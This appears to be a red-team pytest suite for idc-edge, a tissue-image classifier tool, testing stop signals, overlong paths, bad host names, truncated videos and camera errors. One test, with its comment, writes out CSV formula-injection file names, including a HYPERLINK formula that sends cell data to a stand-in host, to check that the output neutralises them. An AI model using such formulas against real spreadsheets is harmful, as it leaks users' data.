"""Red-team round 5: stop signals before the first frame, a working folder deeper than PATH_MAX,
and option values, host names and frames no earlier round tried.

Everything is real: videos and images are written with OpenCV, the command line runs as the
program (a subprocess where a signal matters, in-process otherwise), the model is the committed
tiny LiteRT model.
"""
from __future__ import annotations

import contextlib
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import cv2
import numpy as np
import pytest

from conftest import ROOT
from hostile import TINY, one_error_line, tissue_frame, write_video
from idc_edge.cli import main
from idc_edge.record import read_records


# -- a working folder deeper than PATH_MAX -------------------------------------------------------

@contextlib.contextmanager
def deep_working_folder(base, min_bytes=4300):
    """Change into folders nested under ``base`` until the working folder's path is over
    ``min_bytes`` (more than Linux's PATH_MAX of 4096), one step at a time as only a relative
    ``chdir`` can; the starting folder is restored afterwards."""
    start = os.getcwd()
    os.chdir(base)
    try:
        while len(os.getcwd()) < min_bytes:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        yield
    finally:
        os.chdir(start)


@pytest.mark.parametrize("output", [["--record", "r.jsonl"], ["--save-video", "o.mp4"], ["--source-video"]])
def test_a_relative_path_in_a_working_folder_deeper_than_path_max_is_refused_for_its_length(tmp_path, capsys, output):
    # the files' full paths are over PATH_MAX: the folder checks and OpenCV go by them and failed, which
    # was said as "folder '/tmp/.../dddd' does not exist" (and an intact video as "not a video file
    # OpenCV can decode")
    source = write_video(tmp_path / "v.avi")
    with deep_working_folder(tmp_path):
        if output == ["--source-video"]:
            write_video("v.avi")
            args = ["--source", "v.avi"]
        else:
            args = ["--source", str(source), *output]
        code = main(["run", *args, "--model", TINY, "--quiet"])
        made = sorted(os.listdir("."))
    line = one_error_line(capsys.readouterr().err)
    assert code == 2
    name = args[-1]
    assert f"'{name}': its full path is" in line and "PATH_MAX" in line, line
    assert "run idc-edge from a folder with a shorter path" in line
    assert "does not exist" not in line and "OpenCV can decode" not in line
    assert made == (["v.avi"] if output == ["--source-video"] else [])  # nothing written


# -- a stop before the first frame ---------------------------------------------------------------


#: a stand-in for the installed ``idc-edge`` program (``python -m idc_edge``) that sends itself
#: ``signal`` the first time ``module`` is looked up: a stop that lands while the program loads
#: numpy or OpenCV, deterministically. It notes in ``marker`` that it fired.
_SIGNAL_ON_IMPORT = r"""
import os, runpy, signal, sys
module, signum, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
class SignalOnImport:
    def find_spec(self, name, path=None, target=None):
        if name == module and not os.path.exists(marker):
            open(marker, "w").close()
            os.kill(os.getpid(), signum)
        return None
sys.meta_path.insert(0, SignalOnImport())
sys.argv = ["idc-edge"] + sys.argv[4:]
runpy.run_module("idc_edge", run_name="__main__", alter_sys=True)
"""


def assert_stopped_before_first_frame(p, signame="SIGTERM"):
    assert p.returncode == 130, (p.returncode, p.stderr)
    line = p.stderr.strip()
    assert line.splitlines() == [line], p.stderr  # one line, no traceback, no ImportError text
    assert line.startswith(f"idc-edge: run stopped by {signame} before its first frame: nothing was classified"), line


def assert_outputs_valid(record, video):
    if record.exists():  # a results file opened before the stop keeps its header, whole
        records = read_records(record)
        assert [r for r in records if "session" not in r] == []
    assert not video.exists()


@pytest.mark.parametrize("module", ["numpy", "datetime", "cv2.load_config_py3"])
def test_a_stop_while_the_program_loads_its_libraries_is_one_line_and_exit_130(tmp_path, module):
    # "numpy": the launcher took no SIGTERM handler before the command line loaded: the process died by
    # the signal, silently (exit 143). "datetime" (looked up by numpy's C start-up) and OpenCV's loader:
    # a stop raised inside their C initialisation became an ImportError (numpy's "PyCapsule_Import could
    # not import module datetime", OpenCV's "recursion is detected"), exit 1 with their own lines
    marker = tmp_path / "fired"
    record, video = tmp_path / "r.jsonl", tmp_path / "o.mp4"
    p = subprocess.run([sys.executable, "-c", _SIGNAL_ON_IMPORT, module, str(int(signal.SIGTERM)), str(marker),
                        "run", "--source", str(write_video(tmp_path / "v.avi")), "--model", TINY, "--quiet",
                        "--record", str(record), "--save-video", str(video)],
                       capture_output=True, text=True, timeout=120, cwd=str(ROOT))
    if not marker.exists():
        pytest.skip(f"this numpy/OpenCV never looks up {module!r} while loading")
    assert_stopped_before_first_frame(p)
    assert_outputs_valid(record, video)


def test_the_installed_program_takes_stop_signals_before_it_loads_the_command_line():
    # the console script imports its entry point's module first: idc_edge.cli loaded numpy before any
    # handler was taken (exit 143 on SIGTERM, a traceback on Ctrl-C); the launcher takes them first
    import re

    script = re.search(r'^idc-edge\s*=\s*"([^"]+)"', (ROOT / "pyproject.toml").read_text(), re.M).group(1)
    module, _, function = script.partition(":")
    assert (module, function) == ("idc_edge.__main__", "entry")
    code = ("import sys; sys.modules.pop('numpy', None)\n"
            "import idc_edge.__main__ as m\n"
            "assert 'numpy' not in sys.modules, 'the launcher loads numpy before taking the stop signals'\n")
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60, cwd=str(ROOT))


def children(pid):
    """The process ids of ``pid``'s children (Linux /proc)."""
    try:
        return (Path(f"/proc/{pid}/task/{pid}/children").read_text()).split()
    except OSError:
        return []


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="needs Linux /proc to see the model check start")
def test_a_stop_while_the_model_is_checked_is_one_line_exit_130_and_outputs_stay_valid(tmp_path):
    # the model's crash check runs in a child process before the first frame; a SIGTERM then was
    # "interrupted; results so far are saved" and "0 frame(s)", exit 0: a run that did nothing said done
    record, video = tmp_path / "r.jsonl", tmp_path / "o.mp4"
    env = dict(os.environ, IDC_EDGE_CACHE_DIR=str(tmp_path / "empty-cache"))  # the check runs, not cached
    p = subprocess.Popen([sys.executable, "-m", "idc_edge", "run", "--source", str(write_video(tmp_path / "v.avi")),
                          "--model", TINY, "--quiet", "--record", str(record), "--save-video", str(video)],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=str(ROOT), env=env)
    try:
        while not children(p.pid) and p.poll() is None:  # the model check's process has started
            time.sleep(0.005)
        p.send_signal(signal.SIGTERM)
        out, err = p.communicate(timeout=120)
    finally:
        p.kill()
    assert_stopped_before_first_frame(subprocess.CompletedProcess(p.args, p.returncode, out, err))
    assert_outputs_valid(record, video)


def test_a_stop_while_a_stream_camera_opens_is_one_line_exit_130_and_outputs_stay_valid(tmp_path):
    # a stream server that takes the connection and never sends: the camera's open waits for it
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    accepted = threading.Event()
    held = []

    def accept():
        try:
            while True:
                held.append(server.accept()[0])
                accepted.set()
        except OSError:
            pass

    threading.Thread(target=accept, daemon=True).start()
    record, video = tmp_path / "r.jsonl", tmp_path / "o.mp4"
    try:
        p = subprocess.Popen([sys.executable, "-m", "idc_edge", "run", "--camera",
                              f"tcp://127.0.0.1:{server.getsockname()[1]}", "--model", TINY, "--quiet",
                              "--camera-timeout", "60", "--record", str(record), "--save-video", str(video)],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=str(ROOT))
        try:
            while not accepted.wait(0.05) and p.poll() is None:
                pass
            p.send_signal(signal.SIGTERM)
            out, err = p.communicate(timeout=60)
        finally:
            p.kill()
    finally:
        server.close()
        for c in held:
            c.close()
    err = "\n".join(line for line in err.splitlines() if "camera's scale is not calibrated" not in line)
    assert_stopped_before_first_frame(subprocess.CompletedProcess(p.args, p.returncode, out, err))
    assert_outputs_valid(record, video)


# -- a live-view host name DNS cannot hold -------------------------------------------------------

@pytest.mark.parametrize("host", ["a" * 300, "a..b", ".", "x" * 64 + ".local"])
def test_a_serve_host_name_dns_cannot_hold_is_one_line_not_an_internal_error(tmp_path, capsys, host):
    # Python's IDNA codec refuses a label over 63 characters or an empty one before any look-up:
    # "internal error (UnicodeError: encoding with 'idna' codec failed ...)"
    from idc_edge.errors import OptionError
    from idc_edge.sinks import LiveView

    with pytest.raises(OptionError, match="not a host name DNS can hold"):
        LiveView(host, 8080)
    image = tmp_path / "p.png"
    cv2.imwrite(str(image), tissue_frame())
    code = main(["run", "--source", str(image), "--model", TINY, "--quiet", "--serve", f"{host}:8080"])
    line = one_error_line(capsys.readouterr().err)
    assert code == 2 and "--serve" in line and "not a host name DNS can hold" in line, line
    assert "internal error" not in line


# -- areas never exceed the frame; a stride the results file cannot hold is refused --------------

def _all_tissue(width, height):
    return np.full((height, width, 3), (150, 60, 160), np.uint8)  # purple everywhere: every window tissue


@pytest.mark.parametrize("width,height,um_per_px,stride", [
    (200, 150, 4.0, 500),     # a stride wider than the frame: one cell stood for 2 mm × 2 mm, 33 times the frame
    (200, 150, 4.0, 100),     # a stride over the patch: edge cells counted whole past the frame
    (480, 270, 4.0, None),    # the default: the last row and column, moved back to the edge, counted whole again
    (1920, 1080, 1.0, 25),    # a finer stride: the strip past the last cell was left out
    (37, 23, 4.0, None),      # smaller than one patch
])
def test_the_tissue_area_of_a_frame_all_tissue_is_the_frame_s_own_area(width, height, um_per_px, stride):
    # areas were patches × (stride × model µm/px)²: 16 mm² of tissue in a 0.48 mm² frame at --stride 500,
    # +16 % for a 480×270 frame at the default stride; the live view, overlay and results file said so
    import warnings

    from idc_edge import Detector
    from idc_edge.overlay import idc_area_mm2

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a stride over the patch is warned about; a tiny frame too
        detector = Detector(model_path=TINY, um_per_px=um_per_px, stride=stride)
        result = detector.detect(_all_tissue(width, height))
    cell_um = detector.stride * detector.spec.um_per_px
    idc, tissue = idc_area_mm2(result, cell_um)
    assert result.n_tissue == result.tissue.size  # every window is tissue
    assert tissue == pytest.approx(width * height * um_per_px ** 2 / 1e6, rel=0.02)
    assert 0 <= idc <= tissue
    detector.close()


def test_a_run_at_a_huge_stride_never_writes_a_results_file_its_report_refuses(tmp_path, capsys):
    # --stride 1000000 ran and wrote cell_um 4e6 µm and areas of 4e6 mm²; report then refused the file
    image = tmp_path / "p.png"
    cv2.imwrite(str(image), _all_tissue(200, 150))
    record = tmp_path / "r.jsonl"
    code = main(["run", "--source", str(image), "--model", TINY, "--quiet", "--stride", "1000000",
                 "--record", str(record)])
    line = one_error_line(capsys.readouterr().err)
    assert code == 2 and line.startswith("idc-edge: error: --stride 1000000 px is 4000000 µm between patches"), line
    assert "at most 250000 px" in line and not record.exists()
    assert main(["run", "--source", str(image), "--model", TINY, "--quiet", "--stride", "250000",
                 "--record", str(record)]) == 0
    capsys.readouterr()
    assert main(["report", str(record), "--json"]) == 0
    frame = [r for r in read_records(record) if "session" not in r][0]
    assert frame["tissue_area_mm2"] == pytest.approx(0.48, rel=0.02)


# -- a frame that is a view far larger than its memory ------------------------------------------

@pytest.mark.parametrize("frame", [
    lambda: np.broadcast_to(np.uint8(200), (100_000, 100_000, 3)),   # a "blank" frame made by broadcasting
    lambda: np.broadcast_to(np.float32(0.5), (100_000, 100_000)),
    lambda: np.lib.stride_tricks.as_strided(np.zeros(4, np.uint16), (100_000, 100_000, 4), (0, 0, 2)),
])
def test_a_frame_view_larger_than_the_memory_budget_is_a_budget_error_not_a_bare_memory_error(frame):
    # its shape is huge, its memory a few bytes: converting it allocated 27.9 GiB and numpy raised a bare
    # MemoryError (the command line's "out of memory", an API caller's crash)
    from idc_edge import Detector
    from idc_edge.errors import MemoryBudgetError

    with Detector(model_path=TINY) as detector:
        with pytest.raises(MemoryBudgetError, match="would need .* over the memory budget"):
            detector.detect(frame())
        small = np.broadcast_to(np.array([200, 150, 220], np.uint8), (120, 160, 3))  # a small view still works
        assert detector.detect(small).frame_shape == (120, 160)


# -- an empty video, an MP4 cut off before its index ---------------------------------------------

@pytest.mark.parametrize("damage", ["empty", "before-index", "half"])
def test_an_empty_video_or_an_mp4_cut_off_before_its_index_is_named_as_such(tmp_path, capsys, damage):
    # both were "not a video file OpenCV can decode (for still images use .png/.jpg/.tif)": an MP4 whose
    # recording was killed (MPEG-4 writes its index, the moov box, last) is a video, just unfinished
    from idc_edge.errors import SourceError
    from idc_edge.sources.video import VideoSource

    whole = write_video(tmp_path / "whole.mp4", frames=20, fourcc="mp4v").read_bytes()
    index = whole.find(b"moov") - 4
    assert index > whole.find(b"mdat") > 0  # OpenCV's writer puts the index last
    cut = {"empty": b"", "before-index": whole[:index], "half": whole[: len(whole) // 2]}[damage]
    video = tmp_path / "cut.mp4"
    video.write_bytes(cut)
    expected = "the file is empty (0 bytes)" if damage == "empty" else "an MP4/MOV without its index (no 'moov' box)"
    with pytest.raises(SourceError, match=r"cannot open .* as a video: ") as refused:
        VideoSource(video)
    assert expected in str(refused.value)
    assert main(["run", "--source", str(video), "--model", TINY, "--quiet"]) == 2
    line = one_error_line(capsys.readouterr().err)
    assert expected in line and "OpenCV can decode" not in line, line
    assert len(list(VideoSource(tmp_path / "whole.mp4"))) == 20  # the whole file reads as before


# -- a snapshots folder named like another output -----------------------------------------------

@pytest.mark.parametrize("other", [["--record", "same"], ["--save-video", "same.mp4"]])
def test_a_snapshots_folder_named_like_the_results_file_or_video_is_refused_before_the_run(tmp_path, capsys, other):
    # neither existed yet, so the snapshots folder's check passed; the run then made that name a file and
    # the Snapshot button failed in the middle of the session ("checked now, not when the button is pressed")
    flag, output = other[0], tmp_path / other[1]
    code = main(["run", "--source", str(write_video(tmp_path / "v.avi")), "--model", TINY, "--quiet",
                 flag, str(output), "--snapshots", str(output), "--serve", "127.0.0.1:18199"])
    line = one_error_line(capsys.readouterr().err)
    assert code == 2 and f"--snapshots '{output}' is the same file as {flag}" in line, line
    assert not output.exists()


def test_a_session_refuses_a_snapshot_sink_whose_folder_is_another_sink_s_file(tmp_path):
    from idc_edge import DetectorOptions
    from idc_edge.errors import OptionError
    from idc_edge.session import RunConfig, Session
    from idc_edge.sinks import JsonlSink, SnapshotSink

    results = tmp_path / "r.jsonl"
    config = RunConfig(source=str(write_video(tmp_path / "v.avi")), detector=DetectorOptions(model_path=TINY))
    with pytest.raises(OptionError, match="SnapshotSink's folder .* is the same file as JsonlSink"):
        Session(config, [JsonlSink(results), SnapshotSink(results)]).run()
    assert not results.exists()


# -- a stream camera that takes the connection and sends nothing ---------------------------------

def test_a_stream_server_that_sends_nothing_is_told_from_one_that_is_not_there(capsys):
    # both were "no stream there; start it on the camera's machine": a server that took the connection
    # and stalled (a wrong port or path, a stream held by another viewer) was sent to start a stream
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(4)
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    closed_port = closed.getsockname()[1]
    closed.close()  # nothing listens there now
    held = []

    def accept():
        try:
            while True:
                held.append(silent.accept()[0])
        except OSError:  # closed at the end of the test
            pass

    threading.Thread(target=accept, daemon=True).start()
    try:
        code = main(["run", "--camera", f"tcp://127.0.0.1:{silent.getsockname()[1]}", "--model", TINY, "--quiet",
                     "--camera-timeout", "1"])
        stalled = one_error_line(capsys.readouterr().err)
        assert code == 2 and "took the connection but sent no video within 1 s (--camera-timeout)" in stalled, stalled
        code = main(["run", "--camera", f"rtsp://127.0.0.1:{closed_port}/x", "--model", TINY, "--quiet",
                     "--camera-timeout", "1"])
        refused = one_error_line(capsys.readouterr().err)
        assert code == 2 and f"nothing listens at 127.0.0.1:{closed_port} (connection refused)" in refused, refused
    finally:
        silent.close()
        for c in held:
            c.close()


# -- file names a spreadsheet would run as formulas ----------------------------------------------

def test_classify_never_writes_a_csv_cell_a_spreadsheet_runs_as_a_formula(tmp_path, capsys, monkeypatch):
    # `classify .` over a shared folder wrote the relative path `=HYPERLINK("http://x/?"&A1,"open")...` as a
    # cell, and the patient id parsed from `=1+1_idx5_...` too: a spreadsheet opening the CSV ran them
    import csv
    import io

    hostile = ['=HYPERLINK("http:x","a").png', "+1+2.png", "@SUM(1).png", "-2+3.png", "=1+1_idx5_x0_y0_class0.png"]
    for file in hostile:
        cv2.imwrite(str(tmp_path / file), _all_tissue(50, 50))
    monkeypatch.chdir(tmp_path)
    assert main(["classify", ".", "--model", TINY, "--quiet"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(hostile)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), row
        assert (tmp_path / row["path"]).is_file()  # ./NAME: still the file's path
    assert sorted(Path(r["path"]).name for r in rows) == sorted(hostile)
    assert [r["patient"] for r in rows if r["patient"]] == ["'=1+1"]


# -- a camera path that is no camera --------------------------------------------------------------

@pytest.mark.parametrize("kind", ["/dev/null", "folder", "fifo"])
def test_a_camera_path_that_is_no_camera_says_what_it_is_not_to_check_the_cable(tmp_path, kind):
    # /dev/null, a terminal, a folder or a FIFO nobody writes to were all "no camera at X: check the cable
    # and that no other program uses it"
    if kind == "/dev/null":
        device, expected = "/dev/null", "it is a character device but not a video (V4L2) device"
    elif kind == "folder":
        device, expected = str(tmp_path), "it is a folder, not a camera (a folder of images is read with --source"
    else:
        device, expected = str(tmp_path / "pipe"), "it is a FIFO (named pipe) that gave no video within 1 s"
        os.mkfifo(device)
    p = subprocess.run([sys.executable, "-m", "idc_edge", "run", "--camera", device, "--model", TINY, "--quiet",
                        "--camera-timeout", "1"], capture_output=True, text=True, timeout=120, cwd=str(ROOT))
    line = one_error_line(p.stderr)
    assert p.returncode == 2 and f"no camera at '{device}': {expected}" in line, line
    assert "check the cable" not in line


# -- an empty HOME ---------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["", "   ", "relative/home"])
def test_an_empty_or_relative_home_is_taken_as_unset_not_as_the_root_folder(monkeypatch, value):
    # Python's Path.home() took HOME="" as "/": profiles were read from and saved to /.config/idc-edge/profiles,
    # and a cache of ~/x in IDC_EDGE_CACHE_DIR went to /x; a relative HOME moved with the working folder
    pwd = pytest.importorskip("pwd")
    from idc_edge.environment import env_path
    from idc_edge.profiles import profiles_dir

    account_home = Path(pwd.getpwuid(os.getuid()).pw_dir)
    monkeypatch.setenv("HOME", value)
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.setenv("IDC_EDGE_CACHE_DIR", "~/idc-cache")
    assert profiles_dir() == account_home / ".config" / "idc-edge" / "profiles"
    assert env_path("IDC_EDGE_CACHE_DIR") == account_home / "idc-cache"
    monkeypatch.setenv("HOME", "/srv/scope-user")  # an absolute HOME is the home, as always
    assert profiles_dir() == Path("/srv/scope-user/.config/idc-edge/profiles")
